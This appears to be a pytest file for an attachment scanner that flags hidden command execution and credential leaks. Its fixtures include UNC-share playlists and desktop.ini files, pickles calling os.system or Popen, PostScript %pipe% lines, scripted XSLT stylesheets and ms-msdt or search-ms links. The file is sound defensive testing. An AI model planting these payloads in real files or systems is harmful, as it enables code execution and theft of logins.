"""Files that few think of as programs: what in them runs a command or logs in elsewhere is told, and nothing else."""

from __future__ import annotations

import io
import pickle
import subprocess
import sys
import zipfile
from collections import OrderedDict

import pikepdf
import pytest

from scop.attachments import Finding, Kind, Severity, Thing, examine, examine_thing
from scop.attachments.addresses import opens_in_windows


def _found(octets: bytes, name: str) -> tuple[Finding, ...]:
    return examine_thing(Thing(octets, name, place=name))


def _kinds(octets: bytes, name: str) -> set[tuple[str, str]]:
    return {(one.kind.value, one.severity.value) for one in _found(octets, name)}


_SHARE = rb"\\192.0.2.1\music\a.mp3"
_LISTS: dict[str, bytes] = {
    "a.m3u": b"#EXTM3U\r\n#EXTINF:1,Song\r\n" + _SHARE + b"\r\n",
    "b.m3u": b"file://lagoon.example/music/a.mp3\n",
    "c.m3u8": b"//lagoon.example/music/a.mp3\n",
    "d.m3u": b"\\\\?\\UNC\\lagoon.example\\music\\a.mp3\n",
    "e.m3u": b"\\\\lagoon.example@8080\\music\\a.mp3\n",
    "a.pls": b"[playlist]\r\nFile1=" + _SHARE + b"\r\n",
    "a.asx": b'<asx version="3.0"><entry><ref href="file://192.0.2.1/a.mp3"/></entry></asx>',
    "a.wax": b"<asx><entry><ref href = '" + _SHARE + b"'/></entry></asx>",
    "a.wpl": b'<?wpl version="1.0"?><smil><body><seq><media src="' + _SHARE + b'"/></seq></body></smil>',
    "folder/desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\a.ico,0\r\n",
    "Desktop.ini": "\ufeff[.ShellClassInfo]\r\nIconFile=\\\\192.0.2.1\\a.ico\r\n".encode("utf-16-le"),
    "a.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\a\\b.ico\r\n",
}


@pytest.mark.parametrize("name", _LISTS)
def test_a_list_that_has_windows_log_in_elsewhere_is_told(name: str) -> None:
    """A song, or the picture of a folder, on somebody else's computer is fetched with the reader's name."""
    assert ("shortcut", "suspicious") in _kinds(_LISTS[name], name)


@pytest.mark.parametrize(
    ("name", "octets"),
    [
        ("a.m3u", b"#EXTM3U\nhttps://lagoon.example/a.mp3\nC:\\Music\\a.mp3\n/home/a/b.mp3\n..\\b\\c.mp3\n"),
        ("a.m3u", b"file:///home/a/b.mp3\nfile:///C:/Music/a.mp3\nfile://localhost/c/a.mp3\n"),
        ("a.pls", b"[playlist]\nFile1=https://lagoon.example:8000/stream\nNumberOfEntries=1\n"),
        ("a.asx", b'<asx version="3.0"><entry><ref href="mms://lagoon.example/a"/></entry></asx>'),
        (
            "a.xspf",
            b'<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><location>a.mp3</location></playlist>',
        ),
        ("desktop.ini", b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\shell32.dll,4\r\n"),
        ("backup.ini", b"[places]\r\ntarget=\\\\server\\backup\r\n"),  # which nothing opens by itself
    ],
)
def test_a_list_of_files_at_home_or_on_the_web_is_nothing(name: str, octets: bytes) -> None:
    """People send each other such lists, and programs their settings."""
    assert set() == _kinds(octets, name)


_STYLESHEET = (
    b'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"%b>'
    b'<xsl:template match="/"><p><xsl:value-of select="a"/></p></xsl:template>%b</xsl:stylesheet>'
)
_SCRIPT = b'<%b:script language="JScript" implements-prefix="u"><![CDATA[new ActiveXObject("a")]]></%b:script>'


@pytest.mark.parametrize("prefix", [b"msxsl", b"ms"])
@pytest.mark.parametrize("name", ["a.xsl", "a.xslt", "a.xml"])
def test_a_stylesheet_with_a_script_is_dangerous(name: str, prefix: bytes) -> None:
    """Windows runs it by a program of its own, whatever prefix the script has."""
    spaces = b' xmlns:%b="urn:schemas-microsoft-com:xslt"' % prefix
    octets = _STYLESHEET % (spaces, _SCRIPT % (prefix, prefix))

    assert {("script", "dangerous")} == _kinds(octets, name)
    assert {("script", "dangerous")} == _kinds(octets.decode().encode("utf-16"), name)


@pytest.mark.parametrize(
    "octets",
    [
        _STYLESHEET % (b"", b""),
        _STYLESHEET % (b' xmlns:msxsl="urn:schemas-microsoft-com:xslt"', b'<xsl:template name="script"/>'),
        _STYLESHEET % (b"", b"<xsl:template name='a'><script src='a.js'/></xsl:template>"),
    ],
)
def test_a_stylesheet_without_a_script_is_nothing(octets: bytes) -> None:
    """One that only makes pages, with scripts of theirs too, runs nothing itself."""
    assert set() == _kinds(octets, "a.xsl")


class _Calling:
    """What a pickle of it calls when it is loaded."""

    def __init__(self, function: object, *arguments: object) -> None:
        self._called = function, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self._called


_MOVED = b"\x80\x04\x8c\x02os\x8c\x06systemN0\x93\x8c\x02id\x85R."  # the two strings, and something taken away
_MEMO = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x9400h\x00h\x01\x93\x8c\x02id\x85R."


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize("name", ["a.pkl", "a.bin", "", "model.joblib"])
def test_a_pickle_that_runs_a_command_is_told(name: str, protocol: int) -> None:
    """Whatever its protocol is, and whatever it is called."""
    octets = pickle.dumps(_Calling(eval, "1"), protocol)

    assert ("script", "suspicious") in _kinds(octets, name)


@pytest.mark.parametrize(
    "octets",
    [
        b"cos\nsystem\n(S'id'\ntR.",
        b"(S'id'\nios\nsystem\n.",
        b"cposix\nsystem\n(S'id'\ntR.",
        _MOVED,
        _MEMO,
        b"\x80\x02X\xff\xff\x00\x00" + b"a" * 65_535 + b"csubprocess\nPopen\n)R.",
        pickle.dumps([1, 2]) + b"cbuiltins\nexec\n(S'a'\ntR.",
    ],
)
def test_a_pickle_made_by_hand_is_told_too(octets: bytes) -> None:
    """Strings that are moved about or kept, long ones before the call, a second pickle behind the first one."""
    assert ("script", "suspicious") in _kinds(octets, "a.pkl")


def test_a_pickle_in_an_archive_is_told() -> None:
    """As PyTorch saves its models: `data.pkl` in a zip archive."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02cos\nsystem\n(X\x02\x00\x00\x00idtR.")

    assert ("script", "suspicious") in _kinds(written.getvalue(), "model.pt")


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_a_pickle_of_values_is_nothing(protocol: int) -> None:
    """What holds numbers, texts that name modules, and classes of the library calls nothing."""
    values = [{"os": "system", "sys": {1, 2}}, OrderedDict(a=1.5), b"\x00\xff", bytearray(b"subprocess"), None, 1 << 80]

    assert set() == _kinds(pickle.dumps(values, protocol), "a.pkl")


def test_a_pickle_of_many_numbers_is_read_to_its_end() -> None:
    """What data are kept in has millions of them: a call behind them is told, and without one nothing is."""
    numbers = pickle.dumps([number / 7 for number in range(200_000)] + list(range(200_000)))

    assert set() == _kinds(numbers, "a.pkl")
    assert {("script", "suspicious")} == _kinds(numbers + b"cos\nsystem\n(S'id'\ntR.", "a.pkl")


@pytest.mark.parametrize("octets", [b"", b"\x80", b"\x80\x04\x95", b"\x80\x04X\xff", b"cos", b"a text", b"c\n\n\n"])
def test_a_pickle_that_is_cut_or_none_is_nothing(octets: bytes) -> None:
    """What ends in the midst of an opcode is read as far as it goes."""
    assert set() == _kinds(octets, "a.pkl")


@pytest.mark.parametrize(
    "line",
    [
        b"(%pipe%id) (r) file",
        b"mark /OutputFile (%PIPE%id) currentdevice putdeviceprops",
        b"(\\045pipe\\45id) (w) file",
        b"<25 70 69 7065 25 6964> (w) file",
    ],
)
@pytest.mark.parametrize("name", ["a.ps", "a.eps", "photo.jpg"])
def test_a_document_that_opens_a_pipe_is_told(name: str, line: bytes) -> None:
    """Ghostscript hands what is written there to a shell, whatever the file is called."""
    assert ("active", "suspicious") in _kinds(b"%!PS-Adobe-3.0\n" + line + b"\nshowpage\n", name)


def test_a_document_that_only_shows_is_nothing() -> None:
    """One may speak of a pipe, and draw one."""
    octets = b"%!PS-Adobe-3.0\n% 30 %pipe% of it\n/pipe { 0 0 moveto } def (a pipe: 25%) show pipe showpage\n"

    assert set() == _kinds(octets, "a.ps")


_REMOTE = [
    "ms-word:ofe|u|https://lagoon.example/a.docx",
    "ms-excel:ofv%7Cu%7Chttps://lagoon.example/a.xlsx",
    "MS-PowerPoint:nft|u|http://lagoon.example/a.pptx",
    "ms-word:https://lagoon.example/a.docx",
    "ms-word:ofe|u|\\\\lagoon.example\\a.docx",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=a&crumb=location:\\\\lagoon.example\\a",
]
_LOCAL = ["https://lagoon.example/ms-word:", "ms-word:", "ms-settings:privacy", "mailto:a@lagoon.example"]


@pytest.mark.parametrize("address", _REMOTE)
def test_an_address_by_which_windows_fetches_a_document_is_told(address: str) -> None:
    """In a page that is attached, in a mail's own page, in a PDF and in a card."""
    page = f'<html><a href="{address}">x</a></html>'.encode()
    mail = b"From: a@lagoon.example\nMIME-Version: 1.0\nContent-Type: text/html\n\n" + page

    assert {"active"} == {one.kind.value for one in _found(page, "a.html") if one.severity is not Severity.NOTE}
    assert Severity.SUSPICIOUS in {one.severity for one in examine(mail)}
    assert ("active", "suspicious") in _kinds(_linked(address), "a.pdf")
    assert ("shortcut", "suspicious") in _kinds(f"BEGIN:VCARD\nURL:{address}\nEND:VCARD\n".lower().encode(), "a.vcf")


@pytest.mark.parametrize("address", _LOCAL)
def test_an_address_that_fetches_nothing_unasked_is_nothing(address: str) -> None:
    """The web, a mail, and a program that is only started."""
    assert set() == _kinds(f'<html><a href="{address}">x</a></html>'.encode(), "a.html")
    assert set() == _kinds(_linked(address), "a.pdf")
    assert not opens_in_windows(address)


def _linked(address: str) -> bytes:
    written = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(address))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])
        document.save(written)
    return written.getvalue()


def _package(part: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("customUI/customUI.xml", part)
    return written.getvalue()


def test_buttons_that_call_macros_are_noted() -> None:
    """A document without macros may name those of an add-in."""
    ribbon = (
        b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Loaded"><ribbon><tabs>'
        b'<tab id="a"><group id="b"><button id="c" onAction="Run.Me"/></group></tab></tabs></ribbon></customUI>'
    )
    found = _found(_package(ribbon), "a.docx")

    assert {(Kind.MACRO, Severity.NOTE)} == {(one.kind, one.severity) for one in found}
    assert {"Loaded", "Run.Me"} == {one.reason.removesuffix(".").rpartition("macro ")[2] for one in found}


def test_buttons_that_call_nothing_are_nothing() -> None:
    """A ribbon may only be put in another order."""
    space = b"http://schemas.microsoft.com/office/2009/07/customui"
    ribbon = b'<customUI xmlns="%b"><ribbon startFromScratch="true"/></customUI>' % space

    assert set() == _kinds(_package(ribbon), "a.docx")


def test_names_in_old_charsets_are_read_without_a_file_being_opened() -> None:
    """Once all is loaded the codecs are too: no import is possible where a stranger's archive is looked into."""
    asked = (
        "import sys; from scop.attachments.readers import preload; preload(); "
        "loaded = {name.removeprefix('encodings.') for name in sys.modules}; "
        "print({'cp437', 'cp1252', 'mac_roman', 'utf_16_be'} - loaded)"
    )
    answer = subprocess.run([sys.executable, "-P", "-c", asked], capture_output=True, text=True, check=True)

    assert "set()\n" == answer.stdout
